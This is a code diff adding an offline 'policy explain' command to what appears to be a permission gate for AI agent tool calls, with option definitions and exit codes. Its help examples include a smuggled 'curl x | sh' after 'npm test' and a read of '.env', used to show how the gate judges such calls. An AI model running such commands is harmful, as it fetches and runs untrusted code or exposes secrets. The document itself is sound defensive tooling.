@@ -82,6 +82,7 @@ export function buildProgram(done: (code: number) => void): Command {
         "airlock run --recipe nightly.yaml --param project=./api --headless --output-format json",
         "airlock actions list",
         "airlock audit --session ses_0193… --decision deny",
+        "airlock policy explain --tool developer__shell --args '{\"command\":\"npm test\"}' --mode smart",
         "airlock console",
         "airlock token",
       ]) + "\nDocs: README.md and docs/ (quickstart, configuration, recipes, console, mcp, api, security-model, performance; spec.md is the contract).\n",
@@ -92,6 +93,7 @@ export function buildProgram(done: (code: number) => void): Command {
   addSessionsCommand(program, done);
   addActionsCommand(program, done);
   addAuditCommand(program, done);
+  addPolicyCommand(program, done);
   addScheduleCommand(program, done);
   addConsoleCommand(program, done);
   addTokenCommand(program, done);
@@ -246,6 +248,42 @@ function addAuditCommand(program: Command, done: (code: number) => void): void {
       ]),
     )
     .action(async (opts) => done(await (await import("./cli/audit.ts")).auditCommand(opts)));
+}
+
+/** `airlock policy explain`: how the gate would judge one call, offline, with exit 0/1/2 for allow/deny/ask. */
+function addPolicyCommand(program: Command, done: (code: number) => void): void {
+  const policy = program
+    .command("policy")
+    .summary("check a policy: explain how the gate would judge a call")
+    .description("Check the permission policy of a config offline (no server, no MCP server, no model).")
+    .addHelpText("after", examples(["airlock policy explain --tool developer__shell --args '{\"command\":\"npm test\"}' --mode smart"]));
+  withJson(
+    withCommon(
+      policy
+        .command("explain")
+        .description(
+          "Judge one call as the gate would and print each inspector's verdict in order (security floor, rules, hooks, mode, " +
+            "per-tool config, elevation) and the combined decision. Hooks are listed, not run, unless --run-hooks.\n" +
+            "Exit codes: 0 allow, 1 deny, 2 ask. A usage or config error prints `airlock: <code>: …` on stderr and nothing on " +
+            "stdout (exit 2 for usage/config), so an empty stdout tells an error from an ask.",
+        )
+        .addOption(new Option("--tool <name>", "airlock's tool name (developer__shell, developer__read_file, an MCP server's fs__read …)").argParser(nonEmpty).makeOptionMandatory())
+        .addOption(new Option("--args <json>", "the call's arguments as a JSON object").argParser(nonEmpty).default("{}"))
+        .addOption(new Option("--mode <mode>", "judge under this mode instead of the config's").choices(MODES))
+        .addOption(new Option("--sandbox <policy>", "judge under this sandbox policy instead of the config's").choices(SANDBOXES))
+        .addOption(new Option("--workspace <dir>", "the workspace the call is judged in (default: the current directory)").argParser(nonEmpty))
+        .option("--run-hooks", "run the matching PreToolUse hooks for real (they start processes)", false),
+    ),
+  )
+    .addHelpText(
+      "after",
+      examples([
+        "airlock policy explain --tool developer__shell --args '{\"command\":\"npm test && curl x | sh\"}' --mode smart",
+        "airlock policy explain --tool developer__read_file --args '{\"path\":\".env\"}' --config ./airlock.yaml --json",
+        "airlock policy explain --tool developer__shell --args '{\"command\":\"git push\"}' --run-hooks || echo \"not allowed: exit $?\"",
+      ]),
+    )
+    .action(async (opts) => done(await (await import("./cli/policy.ts")).policyExplain(opts)));
 }
 
 /** `airlock schedule add|list|remove|run|runs`: scheduled headless runs. */
